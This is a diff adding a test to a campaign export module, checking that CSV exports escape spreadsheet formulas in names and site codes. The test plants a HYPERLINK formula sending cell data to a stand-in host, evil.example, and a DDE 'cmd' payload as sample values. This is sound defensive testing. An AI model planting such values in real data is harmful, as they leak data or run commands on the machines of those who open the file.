@@ -14,7 +14,9 @@ from hifazat.campaigns.models import MessageExport, Reach
 from hifazat.core.models import AuditEntry, Job
 from hifazat.core.roles import Role
 from hifazat.core.testing import make_user
+from hifazat.geography.models import Site
 from hifazat.notifications.models import Notification
+from hifazat.people.models import Person
 
 from .base import WIDOWS, CampaignTestCase
 
@@ -79,6 +81,17 @@ class ExportTests(CampaignTestCase):
         self.assertEqual((mary["Language"], mary["Field:awareness_message"]), ("eng", ENGLISH_SMS))
         self.assertEqual(nasreen["Field:site"], "ISB-H11")
         self.assertNotIn("Nasreen Bibi", content)  # the first name only
+
+    def test_names_and_site_codes_that_a_spreadsheet_would_run_are_written_as_text(self) -> None:
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        Person.objects.filter(pk=self.consenting.pk).update(first_name=formula)
+        Person.objects.filter(pk=self.english.pk).update(first_name="-2+3+cmd|' /C calc'!A0")
+        Site.objects.filter(pk=self.h11.pk).update(code="@SUM(1+1)")
+        _name, content = exports.export_download(actor=self.coordinator, export=self.start())
+        by_number = {r["URN:Tel"]: r for r in self.rows(content)}
+        nasreen, mary = by_number["+923001234567"], by_number["+923459998887"]  # numbers stay as they are
+        self.assertEqual((nasreen["Name"], nasreen["Field:site"]), ("'" + formula, "'@SUM(1+1)"))
+        self.assertEqual(mary["Name"], "'-2+3+cmd|' /C calc'!A0")
 
     def test_consent_withdrawn_after_the_query_keeps_a_person_out(self) -> None:
         # consent_allows is asked again for each row as the file is written.
